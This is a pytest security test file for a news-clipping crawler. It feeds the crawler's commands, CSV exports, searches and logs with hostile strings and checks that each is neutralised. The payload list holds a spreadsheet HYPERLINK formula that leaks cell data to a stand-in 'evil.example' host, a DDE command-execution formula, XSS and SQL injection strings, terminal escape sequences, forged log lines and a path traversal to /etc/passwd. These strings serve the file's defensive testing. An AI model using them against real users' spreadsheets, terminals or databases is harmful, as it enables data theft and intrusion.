"""Text made to harm whoever reads it: through every command, export and log, to the terminal and the spreadsheet."""

from __future__ import annotations

import ast
import csv
import json
import logging
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from scrapy import cmdline
from scrapy.utils.project import get_project_settings
from sqlalchemy import select

from crawler.cli.logs import HarmlessRecord
from storage.archive.archive import Archive
from storage.db.engine import default_url
from storage.events.selection import Selection, presentable
from storage.models import Article
from tests.shell import FAST, ROOT, environment
from tests.web.made import MadeOutlet, write_spiders
from tests.web.misbehaviour import slow
from tests.web.server import SampleWeb

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "＝1+1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(document.cookie)",
    "\x1b]0;dikuasai\x07Judul", "\x9b31mMerah", "satu\rdua", "satu\n2026-01-01 00:00:00 [run] INFO: palsu",
    "\u202edesrever", "\u2066isolasi\u2069", "a\u2028b\u2029c\x85d", "\ufeffmark", "../../etc/passwd",
    "'; DROP TABLE article;--",
    "%s%n{0}{event_id}", "%_\\", "\x00nol", "\ud83d",
)  # fmt: skip

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
"""Characters that a terminal obeys, beside line breaks and tabs."""

BODY = (
    "Polres menggelar apel siaga pengamanan Pilkada di Mayangan, Senin (25/11/2024).\n\n{payload} Sebanyak 40 "
    "personel menjaga tempat pemungutan suara dan gudang logistik pemilu.\n\nKapolres meminta anggota menjaga "
    "netralitas. {payload}"
)

Run = Callable[..., tuple[int, str]]


@pytest.fixture(scope="module")
def collection(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive whose every text is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    with (folder / "mine.jsonl").open("w", encoding="utf-8") as file:
        for number, payload in enumerate(PAYLOADS):
            row = {
                "url": f"https://jahat.example/berita/{number}",
                "outlet": f"jahat {payload.encode('utf-8', 'replace').decode()}",
                "network": payload,
                "title": f"{payload} Apel siaga pilkada",
                "authors": [payload, f"{payload};{payload}"],
                "editors": [payload],
                "published_at": "2024-11-25T10:00:00+07:00",
                "body": BODY.format(payload=payload),
            }
            file.write(json.dumps(row) + "\n")
    return folder


@pytest.fixture(scope="module")
def run(collection: Path) -> Iterator[Run]:
    """A command of the project, in this process: its exit code and all that it prints."""

    def command(*arguments: str) -> tuple[int, str]:
        settings = get_project_settings()
        for name, value in (("KLIPING_DATA", str(collection / "data")), ("KLIPING_DATABASE_URL", "")):
            settings.set(name, value, priority="cmdline")
        settings.set("KLIPING_NOW", "2024-11-28T06:00:00+07:00", priority="cmdline")
        printed = collection / "printed.txt"
        kept = [os.dup(number) for number in (1, 2)]
        streams = sys.stdout, sys.stderr
        with printed.open("w", encoding="utf-8") as file:
            sys.stdout = sys.stderr = file
            for number in (1, 2):
                os.dup2(file.fileno(), number)
            try:
                with pytest.raises(SystemExit) as ended:
                    cmdline.execute(["scrapy", *arguments], settings=settings)
            finally:
                file.flush()
                sys.stdout, sys.stderr = streams
                for number, descriptor in zip((1, 2), kept, strict=True):
                    os.dup2(descriptor, number)
                    os.close(descriptor)
        return int(ended.value.code or 0), printed.read_bytes().decode()

    code, said = command("import", str(collection / "mine.jsonl"))
    assert code == 0, said
    assert command("cluster")[0] == 0
    yield command


def test_no_command_prints_what_a_terminal_obeys(run: Run, collection: Path) -> None:
    _, listed = run("events", "--limit", "0")
    event = re.findall(r"\be[0-9a-f]{16}\b", listed)[0]
    assert run("export", str(collection / "jsonl"), "--format", "jsonl")[0] == 0
    articles = [json.loads(line) for line in (collection / "jsonl" / "articles.jsonl").read_text().split("\n") if line]
    first, second = articles[0]["article_id"], articles[1]["article_id"]
    commands: list[tuple[str, ...]] = [
        ("outlets",), ("runs",), ("health",), ("events", "--limit", "0"), ("events", event),
        ("explain", first, second), ("explain", event, event), ("judge", "--list"),
        ("judge", "different", first, second, "--by", "x", "--why", "y"), ("verify",),
        ("import", str(collection / "mine.jsonl")),
        ("relevance", str(collection / "mine.jsonl"), "--explain"), ("reextract",),
        *(("article", one["article_id"]) for one in articles),
        *(("article", one["article_id"], "--versions") for one in articles[:8]),
        *(command for payload in PAYLOADS for command in (
            ("events", payload), ("article", payload), ("crawl", payload), ("explain", payload, first),
            ("takedown", first, "--by", payload, "--why", payload),
            ("export", str(collection / "x"), "--outlet", payload), ("import", f"/nowhere/{payload}"),
            ("extract", payload),
        ) if "\x00" not in payload and "\ud83d" not in payload and not payload.startswith(("-", "=", "+"))),
    ]  # fmt: skip
    wrong = {}
    for command in commands:
        _, said = run(*command)
        if (found := OBEYED.search(said)) or "Traceback" in said:
            wrong[command] = said[max(0, found.start() - 60) : found.end() + 60] if found else said[-600:]
    assert not wrong


def test_no_file_of_an_export_holds_a_formula(run: Run, collection: Path) -> None:
    assert run("export", str(collection / "csv"), "--with-text")[0] == 0
    cells = 0
    for path in (collection / "csv").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                cells += len(row)
                texts = [cell for cell in row if not re.fullmatch(r"-\d+\.\d+", cell)]  # degrees south
                assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]
    assert cells > 500
    for path in (collection / "csv").iterdir():
        assert re.fullmatch(r"[\w.-]{1,40}", path.name), "named by the export, not by what is in it"


@pytest.mark.parametrize("wanted", ["' OR 1=1--", "%", "_", "*", '"', "NEAR(", "x" * 10_000, "%' ESCAPE '", "\\"])
def test_searches_are_taken_literally(run: Run, collection: Path, wanted: str) -> None:
    code, said = run("events", "--text", wanted, "--limit", "0")
    assert code == 0
    assert "Traceback" not in said
    with Archive.open(default_url(collection / "data")) as archive, archive.reading() as session:
        every = session.scalars(select(Article).where(presentable())).all()
        found = set(session.scalars(select(Article.article_id).where(*Selection(text=wanted).conditions())))
    wanted = wanted.lower()
    texts = {one.article_id: f"{one.title}\n{one.body}".lower() for one in every}
    assert found == {name for name, text in texts.items() if wanted in text}
    assert len(found) < len(every)


def test_no_line_of_the_log_is_forged() -> None:
    for payload in PAYLOADS:
        record = HarmlessRecord("outlet", logging.INFO, "x", 1, "redirected to %s", (payload,), None)
        written = logging.Formatter("%(asctime)s [%(name)s] %(message)s").format(record)
        assert not OBEYED.search(written)
        assert all(line.startswith("    ") for line in written.split("\n")[1:])
        written.encode()


def test_nothing_is_unpickled_from_the_data_folder() -> None:
    users = set()
    for folder in ("crawler", "spiders", "storage"):
        for path in (ROOT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                names = [one.name for one in node.names] if isinstance(node, ast.Import) else []
                if isinstance(node, ast.ImportFrom):
                    names = [node.module or ""]
                users |= {
                    str(path.relative_to(ROOT)) for name in names if name in ("pickle", "shelve", "marshal", "dill")
                }
    assert users <= {"crawler/reextraction/reextract.py"}  # into a temporary file that has no name, and back
    assert "TemporaryFile()" in (ROOT / "crawler" / "reextraction" / "reextract.py").read_text(encoding="utf-8")


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="listeners are looked up in /proc")
def test_nothing_listens_during_a_run(tmp_path: Path) -> None:
    outlet = MadeOutlet("warta", 3)
    ours = write_spiders(tmp_path, [outlet])
    with SampleWeb([]) as web:
        web.sites[outlet.host] = outlet
        web.misbehave(how=slow(2), host=outlet.host, path="apel-siaga-2")
        env = environment(tmp_path / "data", web, PYTHONPATH=str(tmp_path))
        command = [sys.executable, "-m", "scrapy", "nightly", "--since", "2024-10-15", *FAST, *ours]
        with subprocess.Popen(
            command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        ) as night:
            while not web.hits(host=outlet.host, path="apel-siaga-2") and night.poll() is None:
                time.sleep(0.05)
            assert night.poll() is None
            listening = _listening() & _sockets_of(night.pid)
            assert night.wait() == 0
    assert not listening


def _listening() -> set[str]:
    """Inodes of the sockets that listen."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            columns = line.split()
            if columns[3] == "0A":
                found.add(columns[9])
    return found


def _sockets_of(pid: int) -> set[str]:
    """Inodes of the sockets of a process and its children."""
    found = set()
    for descriptor in Path(f"/proc/{pid}/fd").iterdir():
        match = re.fullmatch(r"socket:\[(\d+)\]", str(descriptor.readlink()))
        found |= {match[1]} if match else set()
    for children in Path(f"/proc/{pid}/task").glob("*/children"):
        for child in children.read_text().split():
            found |= _sockets_of(int(child))
    return found
